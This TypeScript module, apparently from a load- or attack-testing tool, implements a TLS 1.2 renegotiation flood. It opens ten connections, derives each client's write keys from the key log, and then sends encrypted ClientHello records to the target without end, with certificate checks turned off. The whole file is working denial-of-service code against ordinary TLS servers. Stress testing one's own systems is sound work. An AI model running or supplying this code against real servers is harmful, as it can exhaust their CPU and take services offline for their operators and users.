import { createCipheriv, createHmac } from 'node:crypto';
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { setImmediate } from 'node:timers/promises';
import { connect } from 'node:tls';
import { ClientHelloMessage } from '@latchkey/load';
import { openRaw, type Target } from './attack.js';

/**
 * Shakes hands once on each of ten connections, then asks for another handshake as fast as the server reads (RFC 5246,
 * section 7.4.1.2). Clients of libraries give up when they are refused: the records are made here.
 */
export async function renegotiate(target: Target): Promise<void> {
  const hello = await ClientHelloMessage.capture({ ...target, ...TLS_1_2 });
  const message = hello.records().subarray(RECORD_HEADER_LENGTH);
  const connections = await Promise.all(Array.from({ length: 10 }, () => shakeHands(target)));
  for (const connection of connections) void goOn(connection, message);
}

async function goOn({ raw, keys }: Connection, message: Buffer): Promise<void> {
  // Who does not read what they are told is read no more themselves.
  raw.resume();
  // The first protected record was Finished.
  for (let sequenceNumber = 1n; ;) {
    const records = Array.from({ length: 64 }, () => protect(message, keys, sequenceNumber++));
    if (raw.write(Buffer.concat(records))) await setImmediate();
    else await once(raw, 'drain');
  }
}

const TLS_1_2 = { maxVersion: 'TLSv1.2', ciphers: 'ECDHE-ECDSA-AES128-GCM-SHA256' } as const;
const RECORD_HEADER_LENGTH = 5;

/** What a client's records are protected with (RFC 5288, section 3). */
interface WriteKeys {
  readonly key: Buffer;
  /** The part of the nonce that stays. */
  readonly salt: Buffer;
}

interface Connection {
  readonly raw: Socket;
  readonly keys: WriteKeys;
}

async function shakeHands(target: Target): Promise<Connection> {
  const raw = await openRaw(target);
  const wire = new Duplex({
    read() {},
    write: (bytes: Buffer, _, done) => void raw.write(bytes, () => done()),
  });
  const serverHello = once(raw, 'data').then(([bytes]) => bytes as Buffer);
  const pass = (bytes: Buffer) => wire.push(bytes);
  raw.on('data', pass);
  const client = connect({ ...target, ...TLS_1_2, socket: wire, rejectUnauthorized: false });
  const keyLog = once(client, 'keylog').then(([line]) => (line as Buffer).toString());
  await once(client, 'secureConnect');
  raw.off('data', pass);
  return { raw, keys: writeKeysOf(await keyLog, await serverHello) };
}

function writeKeysOf(keyLog: string, serverHello: Buffer): WriteKeys {
  // CLIENT_RANDOM, the random and the master secret.
  const [, clientRandom = '', masterSecret = ''] = keyLog.trim().split(' ');
  const randomAt = RECORD_HEADER_LENGTH + 4 + 2;
  const serverRandom = serverHello.subarray(randomAt, randomAt + 32);
  const seed = Buffer.concat([Buffer.from('key expansion'), serverRandom, Buffer.from(clientRandom, 'hex')]);
  // Two keys of 16 bytes and two salts of 4: those of the client come first (RFC 5246, section 6.3).
  const block = expand(Buffer.from(masterSecret, 'hex'), seed, 40);
  return { key: block.subarray(0, 16), salt: block.subarray(32, 36) };
}

/** P_SHA256 (RFC 5246, section 5). */
function expand(secret: Buffer, seed: Buffer, length: number): Buffer {
  const hmac = (...data: Buffer[]) => createHmac('sha256', secret).update(Buffer.concat(data)).digest();
  let link = seed;
  let output = Buffer.alloc(0);
  while (output.length < length) {
    link = hmac(link);
    output = Buffer.concat([output, hmac(link, seed)]);
  }
  return output.subarray(0, length);
}

/** A record of handshake messages under AES-128-GCM (RFC 5246, section 6.2.3.3). */
function protect(fragment: Buffer, { key, salt }: WriteKeys, sequenceNumber: bigint): Buffer {
  const sequence = Buffer.alloc(8);
  sequence.writeBigUInt64BE(sequenceNumber);
  const cipher = createCipheriv('aes-128-gcm', key, Buffer.concat([salt, sequence]));
  cipher.setAAD(Buffer.concat([sequence, recordHeader(fragment.length)]));
  const sealed = Buffer.concat([cipher.update(fragment), cipher.final()]);
  return Buffer.concat([recordHeader(8 + sealed.length + 16), sequence, sealed, cipher.getAuthTag()]);
}

function recordHeader(length: number): Buffer {
  return Buffer.of(0x16, 0x03, 0x03, length >> 8, length & 0xff);
}
